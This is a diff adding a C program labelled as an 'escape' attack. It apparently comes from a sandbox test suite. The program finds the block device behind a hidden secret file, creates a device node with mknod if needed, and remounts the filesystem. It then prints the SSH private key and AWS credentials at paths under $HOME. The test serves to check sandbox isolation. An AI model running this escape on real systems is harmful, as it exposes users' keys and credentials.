@@ -1,0 +1,93 @@
+// attack: escape: mount the host's root filesystem again (its block device, found in /proc/self/mountinfo, made with mknod if absent) and read the secrets from the fresh, unhidden mount
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <sched.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+// Prints what a read of PATH gave (the secret itself, if it was readable: that is the damage).
+static int dump(const char *label, const char *path) {
+    char buf[512];
+    int fd = open(path, O_RDONLY);
+    if (fd < 0) { printf("%s: open(%s) -> %s\n", label, path, strerror(errno)); fflush(stdout); return 0; }
+    ssize_t n = read(fd, buf, sizeof buf - 1);
+    close(fd);
+    if (n < 0) { printf("%s: read(%s) -> %s\n", label, path, strerror(errno)); fflush(stdout); return 0; }
+    buf[n] = 0;
+    printf("%s: %s -> %zd bytes: %s\n", label, path, n, buf);
+    fflush(stdout);
+    return n > 0;
+}
+
+#include <sys/sysmacros.h>
+
+// $SECRETS, or (the default profile drops every variable named *SECRET*) the fixture's paths under $HOME.
+static const char *secret_paths(void) {
+    static char buf[8192];
+    const char *s = getenv("SECRETS"), *h = getenv("HOME");
+    if (s) return s;
+    if (!h) return NULL;
+    snprintf(buf, sizeof buf, "%s/.ssh/id_ed25519:%s/.aws/credentials", h, h);
+    return buf;
+}
+
+int main(void) {
+    const char *secrets = secret_paths();
+    if (!secrets) { fprintf(stderr, "SECRETS and HOME not set\n"); return 2; }
+    char list[8192];
+    snprintf(list, sizeof list, "%s", secrets);
+    char *first = strtok(list, ":");
+    struct stat st;
+    if (!first || stat(first, &st) < 0) {
+        // Hidden: take the device of the directory above it.
+        char dir[8192];
+        snprintf(dir, sizeof dir, "%s", first ? first : "/");
+        while (strlen(dir) > 1 && stat(dir, &st) < 0) *strrchr(dir, '/') = 0;
+        if (strlen(dir) > 1) *strrchr(dir, '/') = 0;
+        if (stat(dir[0] ? dir : "/", &st) < 0) return 1;
+    }
+    // The mount of that device whose root is "/" (the whole filesystem), and its source and type.
+    FILE *mi = fopen("/proc/self/mountinfo", "r");
+    char line[4096], source[1024] = "", fstype[64] = "", mountpoint[1024] = "";
+    while (mi && fgets(line, sizeof line, mi)) {
+        unsigned maj, mnr;
+        char root[1024], mp[1024];
+        if (sscanf(line, "%*d %*d %u:%u %1023s %1023s", &maj, &mnr, root, mp) != 4) continue;
+        if (makedev(maj, mnr) != st.st_dev) continue;
+        char *dash = strstr(line, " - ");
+        if (dash) sscanf(dash + 3, "%63s %1023s", fstype, source);
+        snprintf(mountpoint, sizeof mountpoint, "%s", mp);
+        if (strcmp(root, "/") == 0) break;
+    }
+    if (mi) fclose(mi);
+    printf("secret's filesystem: dev %u:%u, %s (%s), mounted at %s\n", major(st.st_dev), minor(st.st_dev), source, fstype, mountpoint);
+    if (access(source, F_OK) < 0) {
+        snprintf(source, sizeof source, "escape-blockdev");
+        unlink(source);
+        errno = 0;
+        long r = mknod(source, S_IFBLK | 0600, st.st_dev);
+        printf("mknod(%s, block %u:%u) -> %ld (%s)\n", source, major(st.st_dev), minor(st.st_dev), r, r < 0 ? strerror(errno) : "success");
+    }
+    mkdir("escape-fs", 0755);
+    errno = 0;
+    long r = mount(source, "escape-fs", fstype, 0, NULL);
+    printf("mount(%s, escape-fs, %s) -> %ld (%s)\n", source, fstype, r, r < 0 ? strerror(errno) : "success");
+    fflush(stdout);
+    char all[8192];
+    snprintf(all, sizeof all, "%s", secrets);
+    char *save = NULL;
+    for (char *s = strtok_r(all, ":", &save); s; s = strtok_r(NULL, ":", &save)) {
+        char path[8192];
+        snprintf(path, sizeof path, "escape-fs%s", s + (strcmp(mountpoint, "/") == 0 ? 0 : strlen(mountpoint)));
+        dump("fresh mount", path);
+    }
+    umount2("escape-fs", MNT_DETACH);
+    return 0;
+}
